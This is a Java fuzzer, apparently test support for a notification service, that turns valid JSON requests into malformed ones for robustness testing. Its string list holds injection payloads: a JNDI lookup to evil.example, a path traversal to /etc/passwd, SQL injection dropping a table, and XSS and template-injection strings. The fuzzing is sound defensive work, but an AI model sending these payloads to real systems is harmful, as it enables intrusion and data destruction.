package app.ascend.notify.support.fuzz;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collection;
import java.util.List;
import java.util.Random;

import app.ascend.notify.support.fuzz.Doc.Arr;
import app.ascend.notify.support.fuzz.Doc.Entry;
import app.ascend.notify.support.fuzz.Doc.Obj;
import app.ascend.notify.support.fuzz.Doc.Raw;

/**
 * Turns a valid request document into a hostile one, driven by one seeded {@link Random} per case so
 * that any case can be replayed from its seed. Tree mutations change a value anywhere in the document
 * (wrong type, huge number, NaN-like token, unicode-heavy or oversized string, 10,000-deep nesting,
 * random field names, arrays of random length); byte mutations then may truncate the text, break its
 * syntax or its UTF-8.
 */
public final class Fuzzer {
    /** Nesting depths around Jackson's limits and far past them. */
    private static final int[] DEPTHS = {2, 50, 499, 500, 501, 999, 1000, 1001, 5000, 10_000, 100_000};
    /** String lengths around the service's field limits (40, 200, 255, 1000, 10,000) and the 1 MiB body limit. */
    private static final int[] LENGTHS = {0, 1, 39, 40, 41, 100, 101, 199, 200, 201, 255, 256, 999, 1000, 1001, 2000,
            2001, 9999, 10_000, 10_001, 65_536, 70_000, 300_000};
    private static final String[] NUMBERS = {"0", "-0", "1", "-1", "100", "101", "85.0", "85.5", "1e2", "1E2", "1.0e2",
            "2147483647", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808",
            "123456789012345678901234567890", "1e308", "1e309", "-1e309", "1e-400", "4.9e-324", "0.1e-999999999",
            "1e999999999999", "0.0000000000000000000000000000001", "99.99999999999999999999", "100.00000000000000001"};
    private static final String[] NAN_LIKE = {"NaN", "-NaN", "Infinity", "-Infinity", "+Infinity", "+1", "01", "-01",
            ".5", "1.", "0x1F", "1e", "1e+", "--1", "undefined", "True", "FALSE", "nul", "None", "'single'", "\"",
            "[", "{", "}", "]", ":", ",", "/* comment */ 1", "// comment\n1", "\"unterminated"};
    private static final String[] STRINGS = {"", " ", "\t\n", "NaN", "Infinity", "-0", "1e309", "85", "true", "null",
            "****abcd", "****", "*", "%s%n%x", "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../../../etc/passwd",
            "'; drop table channels; --", "\" or 1=1 --", "\\", "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>", "\u202Egnp.exe", "\uFEFF", "\uFFFE\uFFFF", "\u2028\u2029", "\u0085",
            "e\u0301\u0301\u0301\u0301", "\uD83D\uDE00\u200D\uD83D\uDE00", "\uDBFF\uDFFF", "مرحبا بالعالم",
            "שלום עולם", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "action.blocked", "pagerduty", "critical", "us", "eu",
            "https://wiki.example/runbook", "javascript:alert(1)", "http://", "https:///x", "ftp://x.example/",
            "2026-11-27T10:15:30Z", "2026-13-45T99:99:99Z", "+999999999-12-31T23:59:59Z", "0000-00-00T00:00:00Z"};
    /** Escapes that yield lone or reversed surrogates, NUL and control characters once parsed, and invalid ones. */
    private static final String[] ESCAPED = {"\\ud800", "\\udfff", "\\udc00\\ud800", "\\ud800\\ud800", "\\ud83d\\ude00",
            "\\u0000", "a\\u0000b", "\\u001f", "\\u007f", "\\u0085", "\\u2028", "\\ufffe", "\\uffff", "\\/", "\\b\\f\\n\\r\\t",
            "\\x41", "\\u12", "\\uZZZZ", "\\", "\\U0001F600", "\\'", "\t", "\n"};
    private static final byte[][] BAD_UTF8 = {{(byte) 0xC3, 0x28}, {(byte) 0xFF}, {(byte) 0xFE}, {(byte) 0xC0, (byte) 0xAF},
            {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, {(byte) 0xE2, (byte) 0x82},
            {(byte) 0x80}, {0}};

    /** A little past the service's 1 MiB body limit. */
    private static final int MAX_BODY = 1024 * 1024 + 4096;
    private final Random random;
    private final List<String> knownKeys;

    /** {@code knownKeys}: the endpoint's field names, for typos and duplicates. */
    public Fuzzer(Random random, Collection<String> knownKeys) {
        this.random = random;
        this.knownKeys = List.copyOf(knownKeys);
    }

    public Random random() {
        return random;
    }

    public boolean chance(double p) {
        return random.nextDouble() < p;
    }

    public <T> T pick(List<T> items) {
        return items.get(random.nextInt(items.size()));
    }

    private String pick(String[] items) {
        return items[random.nextInt(items.length)];
    }

    /** How many tree mutations a case gets: none for about one case in five (so valid bodies are sent too). */
    public int mutationCount() {
        double p = random.nextDouble();
        return p < 0.2 ? 0 : p < 0.65 ? 1 : 2 + random.nextInt(3);
    }

    /** {@code count} mutations at random places of {@code root} (an object or array; changed in place). */
    public Object mutate(Object root, int count) {
        Object result = root;
        for (int i = 0; i < count; i++) {
            result = mutateOnce(result);
        }
        return result;
    }

    private Object mutateOnce(Object root) {
        if (chance(0.03)) {
            return hostileValue(0); // the whole body replaced by a scalar, an array, a deep nest
        }
        List<Object> containers = new ArrayList<>();
        collect(root, containers);
        if (containers.isEmpty()) {
            return hostileValue(0);
        }
        Object target = pick(containers);
        if (target instanceof Obj obj) {
            mutate(obj);
        } else {
            mutate((Arr) target);
        }
        return root;
    }

    private static void collect(Object node, List<Object> out) {
        // Breadth-first without recursion: the tree is small, but may hold raw deep nests (never walked).
        List<Object> queue = new ArrayList<>();
        queue.add(node);
        for (int i = 0; i < queue.size() && out.size() < 10_000; i++) {
            Object n = queue.get(i);
            if (n instanceof Obj obj) {
                out.add(obj);
                obj.entries.forEach(e -> queue.add(e.value));
            } else if (n instanceof Arr arr) {
                out.add(arr);
                queue.addAll(arr.items);
            }
        }
    }

    private void mutate(Obj obj) {
        int op = random.nextInt(10);
        List<Entry> strings = obj.entries.stream().filter(e -> e.value instanceof String).toList();
        if (!strings.isEmpty() && chance(0.25)) {
            pick(strings).value = oddButValidString(); // likely still a valid request: stored, then read back
            return;
        }
        if (obj.entries.isEmpty() || op < 2) {
            obj.add(randomKey(), false, hostileValue(0));
        } else if (op < 6) {
            pick(obj.entries).value = hostileValue(0);
        } else if (op < 8) {
            obj.entries.remove(random.nextInt(obj.entries.size()));
        } else if (op == 8) {
            Entry e = pick(obj.entries);
            obj.add(e.key, e.rawKey, hostileValue(0)); // the same key twice
        } else {
            obj.add(pick(new String[] {"\"\\u0000\"", "\"\\ud800\"", "\"a\\u0000b\"", "name", "'name'", "\"\"", "1", "null",
                    "\"\\uZZZZ\""}), true, hostileValue(0));
        }
    }

    private void mutate(Arr arr) {
        int op = random.nextInt(6);
        if (arr.items.isEmpty() || op == 0) {
            arr.items.add(random.nextInt(arr.items.size() + 1), hostileValue(0));
        } else if (op < 3) {
            arr.items.set(random.nextInt(arr.items.size()), hostileValue(0));
        } else if (op == 3) {
            arr.items.remove(random.nextInt(arr.items.size()));
        } else if (op == 4) {
            Object item = pick(arr.items); // an item repeated (duplicates, batches past 500)
            int copies = chance(0.05) ? 490 + random.nextInt(20) : 1 + random.nextInt(3);
            for (int i = 0; i < copies; i++) {
                arr.items.add(item);
            }
        } else {
            arr.items.clear();
        }
    }

    /** A field name: a known one misspelt or re-cased, or junk. */
    public String randomKey() {
        int p = random.nextInt(8);
        if (p == 0 && !knownKeys.isEmpty()) {
            String known = pick(knownKeys);
            return known.isEmpty() ? known : known.substring(0, known.length() - 1);
        }
        if (p == 1 && !knownKeys.isEmpty()) {
            return pick(knownKeys).toUpperCase();
        }
        if (p == 2 && !knownKeys.isEmpty()) {
            return pick(knownKeys);
        }
        if (p == 3) {
            return pick(new String[] {"", " ", "__proto__", "constructor", "$where", "a.b", "config.integration_key", "[0]",
                    "id", "created_at", "warnings", "ＮＡＭＥ"});
        }
        return unicodeString(p == 4 ? 1000 + random.nextInt(20_000) : 1 + random.nextInt(30));
    }

    /** Any value: wrong types, tokens that are not JSON, odd strings, containers, nests. */
    public Object hostileValue(int depth) {
        int p = random.nextInt(100);
        if (p < 22) {
            return hostileString();
        }
        if (p < 32) {
            return new Raw("\"" + escapedText() + "\"");
        }
        if (p < 44) {
            return new Raw(chance(0.1) ? longDigits() : pick(NUMBERS));
        }
        if (p < 50) {
            return new Raw(pick(NAN_LIKE));
        }
        if (p < 58) {
            return new Raw(pick(new String[] {"true", "false", "null"}));
        }
        if (p < 70 && depth < 3) {
            Arr arr = new Arr();
            int n = randomLength();
            for (int i = 0; i < n; i++) {
                arr.add(i < 20 ? hostileValue(depth + 1) : hostileString());
            }
            return arr;
        }
        if (p < 82 && depth < 3) {
            Obj obj = new Obj();
            int n = random.nextInt(6);
            for (int i = 0; i < n; i++) {
                obj.add(randomKey(), false, hostileValue(depth + 1));
            }
            return obj;
        }
        if (p < 90) {
            return deepNest();
        }
        return hostileString();
    }

    public String hostileString() {
        int p = random.nextInt(10);
        if (p < 4) {
            return pick(STRINGS);
        }
        if (p < 8) {
            return unicodeString(1 + random.nextInt(60));
        }
        return unicodeString(LENGTHS[random.nextInt(LENGTHS.length)]);
    }

    /**
     * A short JSON string every field would take: lone and reversed surrogates, line and paragraph
     * separators, non-characters, controls, right-to-left marks and emoji, as escapes and as text.
     */
    public Raw oddButValidString() {
        StringBuilder text = new StringBuilder("\"");
        int parts = 1 + random.nextInt(4);
        for (int i = 0; i < parts; i++) {
            text.append(chance(0.5)
                    ? pick(new String[] {"\\ud800", "\\udfff", "\\udc00\\ud800", "\\ud83d\\ude00", "\\u2028", "\\ufffe",
                            "\\uffff", "\\u001f", "\\u0085", "\\u202e", "\\ufeff", "\\\\", "\\\"", "\\/"})
                    : unicodeString(1 + random.nextInt(12)).replace("\\", "").replace("\"", "").replaceAll("[\\x00-\\x1f]", ""));
        }
        return new Raw(text.append('"').toString());
    }

    /** Text for between quotes, with escapes that decode to lone surrogates, NUL, controls, or that are invalid. */
    private String escapedText() {
        StringBuilder text = new StringBuilder();
        int parts = 1 + random.nextInt(4);
        for (int i = 0; i < parts; i++) {
            text.append(chance(0.6) ? pick(ESCAPED) : unicodeString(random.nextInt(8)).replace("\\", "").replace("\"", ""));
        }
        return text.toString();
    }

    private String longDigits() {
        StringBuilder digits = new StringBuilder(chance(0.5) ? "-" : "");
        int n = pick(List.of(999, 1000, 1001, 5000, 100_000));
        digits.append('1');
        for (int i = 1; i < n; i++) {
            digits.append((char) ('0' + random.nextInt(10)));
        }
        if (chance(0.3)) {
            digits.append(".5");
        }
        return digits.toString();
    }

    private int randomLength() {
        int p = random.nextInt(10);
        return p < 7 ? random.nextInt(5) : p < 9 ? random.nextInt(100) : 500 + random.nextInt(100);
    }

    /** {@code [[[...]]]}, {@code {"a":{"a":...}}} or a mix, {@code depth} levels deep. */
    public Raw deepNest() {
        int depth = DEPTHS[random.nextInt(DEPTHS.length)];
        int kind = random.nextInt(3);
        StringBuilder text = new StringBuilder(depth * 6);
        for (int i = 0; i < depth; i++) {
            text.append(kind == 0 || (kind == 2 && i % 2 == 0) ? "[" : "{\"a\":");
        }
        text.append(chance(0.5) ? "1" : "\"x\"");
        for (int i = depth - 1; i >= 0; i--) {
            text.append(kind == 0 || (kind == 2 && i % 2 == 0) ? "]" : "}");
        }
        return new Raw(text.toString());
    }

    /**
     * {@code length} characters mixing ASCII, accents, combining marks, right-to-left text and marks,
     * CJK, emoji (surrogate pairs), joiners, BOMs and non-characters.
     */
    public String unicodeString(int length) {
        StringBuilder text = new StringBuilder(length);
        int style = random.nextInt(4); // one block mostly, or a mix
        while (text.length() < length) {
            int block = style == 3 ? random.nextInt(10) : style * 3 + random.nextInt(2);
            int cp = switch (block) {
                case 0 -> 0x20 + random.nextInt(0x5F);
                case 1 -> 0xA0 + random.nextInt(0x60);
                case 2 -> 0x300 + random.nextInt(0x70); // combining marks
                case 3 -> 0x5D0 + random.nextInt(0x1B); // Hebrew
                case 4 -> 0x620 + random.nextInt(0x2B); // Arabic
                case 5 -> pick(List.of(0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066,
                        0x2069, 0xFEFF, 0xFFFD, 0xFFFE, 0xFFFF, 0x2028, 0x2029, 0x85, 0x10FFFF));
                case 6 -> 0x1F600 + random.nextInt(0x50); // emoji
                case 7 -> 0x4E00 + random.nextInt(0x5000); // CJK
                case 8 -> 0x1D400 + random.nextInt(0x300); // mathematical letters
                default -> 0x1 + random.nextInt(0x1F); // controls (escaped when written)
            };
            text.appendCodePoint(cp);
        }
        return text.length() > length && length > 0 ? text.substring(0, Character.isHighSurrogate(text.charAt(length - 1))
                ? length - 1 : length) : text.toString();
    }

    /**
     * The request body: the document's text, sometimes broken at the byte level (truncated, a byte
     * flipped, invalid UTF-8, a BOM, trailing junk) or replaced outright.
     */
    public byte[] body(Object document) {
        byte[] bytes = Doc.write(document, MAX_BODY).getBytes(StandardCharsets.UTF_8);
        if (bytes.length > MAX_BODY) {
            bytes = Arrays.copyOf(bytes, MAX_BODY); // past the service's 1 MiB all bodies are alike: 413
        }
        if (!chance(0.18)) {
            return bytes;
        }
        int op = random.nextInt(9);
        int at = bytes.length == 0 ? 0 : random.nextInt(bytes.length);
        ByteArrayOutputStream out = new ByteArrayOutputStream(bytes.length + 8);
        switch (op) {
            case 0 -> out.write(bytes, 0, at); // truncated
            case 1 -> { // a byte changed
                bytes = bytes.clone();
                if (bytes.length > 0) {
                    bytes[at] = (byte) random.nextInt(256);
                }
                out.writeBytes(bytes);
            }
            case 2 -> { // invalid UTF-8 inserted
                out.write(bytes, 0, at);
                out.writeBytes(BAD_UTF8[random.nextInt(BAD_UTF8.length)]);
                out.write(bytes, at, bytes.length - at);
            }
            case 3 -> { // punctuation inserted
                out.write(bytes, 0, at);
                out.writeBytes(pick(new String[] {"{", "}", "[", "]", ",", ":", "\"", "\\", " ", "\u0000"}).getBytes(StandardCharsets.UTF_8));
                out.write(bytes, at, bytes.length - at);
            }
            case 4 -> { // a range deleted
                out.write(bytes, 0, at);
                int skip = Math.min(bytes.length - at, 1 + random.nextInt(20));
                out.write(bytes, at + skip, bytes.length - at - skip);
            }
            case 5 -> { // a BOM first
                out.writeBytes(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF});
                out.writeBytes(bytes);
            }
            case 6 -> { // trailing junk, or a second document
                out.writeBytes(bytes);
                out.writeBytes(pick(new String[] {"}", "]", ",", "x", "{}", " {\"type\":\"action.blocked\"}", "\n\n", "\u0000"})
                        .getBytes(StandardCharsets.UTF_8));
            }
            case 7 -> out.writeBytes(pick(new String[] {"", " ", "\n", "null", "true", "0", "-1", "\"text\"", "[]", "{}", "[{}]",
                    "[null]", "[[]]", "{\"\":\"\"}", "{}{}", "[1,]", "{\"a\":1,}", "{'a':1}", "{a:1}"}).getBytes(StandardCharsets.UTF_8));
            default -> { // doubled: the text twice
                out.writeBytes(bytes);
                out.writeBytes(bytes);
            }
        }
        return out.toByteArray();
    }

    /** Mostly {@code application/json}; sometimes a charset, a suffix type, or something that is not JSON. */
    public String contentType() {
        if (!chance(0.06)) {
            return "application/json";
        }
        return pick(new String[] {"application/json; charset=UTF-8", "application/json;charset=utf-16",
                "application/json; charset=ISO-8859-1", "application/json; charset=bogus", "APPLICATION/JSON",
                "application/merge-patch+json", "application/vnd.ascend+json", "application/json; boundary=x; charset=\"utf-8\"",
                "text/json", "application/jsonx", "application/x-www-form-urlencoded", "text/plain", "application/*", "*/*", "",
                ";", "application/json; charset="});
    }
}
